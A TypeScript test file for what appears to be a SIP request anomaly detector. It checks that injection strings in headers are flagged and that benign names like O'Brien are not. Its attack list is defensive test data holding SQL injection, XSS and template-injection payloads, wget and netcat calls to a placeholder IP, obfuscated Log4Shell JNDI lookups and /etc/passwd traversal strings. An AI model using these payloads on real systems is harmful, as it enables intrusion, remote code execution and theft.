import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { AnomalyCode } from './anomaly.ts';
import { parsed, request } from './parse.test-support.ts';

const attacks: readonly (readonly [string, AnomalyCode])[] = [
  ["' or '1'='1", 'sql-injection'],
  ["admin'--", 'sql-injection'],
  ["' or 1=1#", 'sql-injection'],
  ["x') or ('a'='a", 'sql-injection'],
  ["' union select 1,2,3", 'sql-injection'],
  ["1'; drop table subscriber; --", 'sql-injection'],
  ["' and sleep(5)", 'sql-injection'],
  ["' || '1'='1", 'sql-injection'],
  ['%27%20or%201=1', 'sql-injection'],
  ['1 or 1=1 %', 'sql-injection'],
  ["1 union all select null,null '", 'sql-injection'],
  ['<script>alert(1)</script>', 'script-injection'],
  ['%3Cscript%3Ealert(1)', 'script-injection'],
  ['<IMG SRC=x onerror=alert(1)>', 'script-injection'],
  ['<svg/onload=alert(1)>', 'script-injection'],
  ['<?php system($_GET[0]);?>', 'script-injection'],
  ['{{7*7}}', 'script-injection'],
  ['\x24{7*7}', 'script-injection'],
  ["{{''.__class__.__mro__}}", 'script-injection'],
  ['\x24{T(java.lang.Runtime).getRuntime().exec("id")}', 'script-injection'],
  ['%{(#a=@java.lang.Runtime@getRuntime())}', 'script-injection'],
  ['$(id)', 'shell-injection'],
  ['$(wget http://198.51.100.1/x)', 'shell-injection'],
  ['`cat /etc/hosts`', 'shell-injection'],
  ['x|nc 198.51.100.1 4444', 'shell-injection'],
  ['x;wget http://198.51.100.1/x $', 'shell-injection'],
  ['x && curl -s http://a/ |', 'shell-injection'],
  ['\x24{jndi:ldap://198.51.100.1/a}', 'shell-injection'],
  ['\x24{\x24{env:X:-j}ndi:ldap://198.51.100.1/a}', 'shell-injection'],
  ['\x24{j\x24{::-n}di:ldap://198.51.100.1/a}', 'shell-injection'],
  ['\x24{j\x24{LOWER:n}di:ldap://198.51.100.1/a}', 'shell-injection'],
  ['%n%n%n%n', 'format-string'],
  ['%s%s%s%s', 'format-string'],
  ['%x%x%x', 'format-string'],
  ['../../../../etc/passwd', 'path-traversal'],
  ['..%2f..%2fboot.ini', 'path-traversal'],
  ['..\\..\\boot.ini', 'path-traversal'],
];

describe('an injection string is found wherever it stands', () => {
  for (const [text, code] of attacks) {
    test(`${code}: ${text}`, () => {
      const quoted = text.replaceAll('\\', '\\\\').replaceAll('"', '\\"');
      const places = [
        request({ From: `"${quoted}" <sip:7@a>;tag=1` }),
        // a slash alone is too common in an agent's name to look closer
        ...(code === 'path-traversal' ? [] : [request({ 'User-Agent': text })]),
        request({ 'X-Custom': text }),
        request(
          {},
          `OPTIONS sip:${text.replaceAll(' ', '%20').replaceAll('<', '%3c').replaceAll('>', '%3e')}@a SIP/2.0`,
        ),
      ];
      for (const place of places) assert.ok(parsed(place).codes.includes(code), `${place}${parsed(place).codes}`);
    });
  }
});

test('a tag that breaks out of an address is found, also where no byte but its brackets tells of it', () => {
  for (const header of ['From', 'To', 'Contact'])
    for (const address of [
      '<sip:"><img src=x onerror=alert(1)>@a>;tag=1',
      '"><img src=x onerror=alert(1)> <sip:7@a>;tag=1',
    ])
      assert.ok(parsed(request({ [header]: address })).codes.includes('script-injection'), `${header} ${address}`);
});

test('SQL in the user name of credentials is found', () => {
  for (const name of ["admin' or 1=1 --", 'a\\" or \\"1\\"=\\"1'])
    assert.ok(
      parsed(request({ Authorization: `Digest username="${name}", realm="a"` })).codes.includes('sql-injection'),
    );
});

const honest = [
  "O'Brien",
  "Peter O'Brien and Sons",
  'R&D; Support',
  'Sales; ping me',
  'Tom|Cat',
  "Workers' Union",
  "the boys' and girls' club",
  "Rock 'n' Roll or Jazz",
  "Men's / Women's",
  '50% off, 100%% sure',
  'C:\\\\Users',
  'a && b',
  '$5 or 10$',
  'cost: $(5)',
  '\x24{EXTEN}',
  '{{extension}} %{user} #{name}',
  'java.lang.RuntimeException: 7*7',
  '\x24{lowest} of \x24{:all}',
  'in $, {::-) or {lower:}',
  'John `Jack` Smith',
  'i <3 you',
  'Select Committee, European Union',
  "Drop-in Table 5's",
  'Either 1 or 2',
  'script',
  '...',
  "L'Hôpital d'Or",
];

describe('an honest name scores 0', () => {
  for (const name of honest) {
    test(name, () => {
      for (const place of [
        request({ From: `"${name}" <sip:7@a>;tag=1` }),
        request({ Subject: name }),
        request({ 'X-Name': name }),
      ])
        assert.equal(parsed(place).score, 0, `${name}: ${parsed(place).codes}`);
    });
  }
});
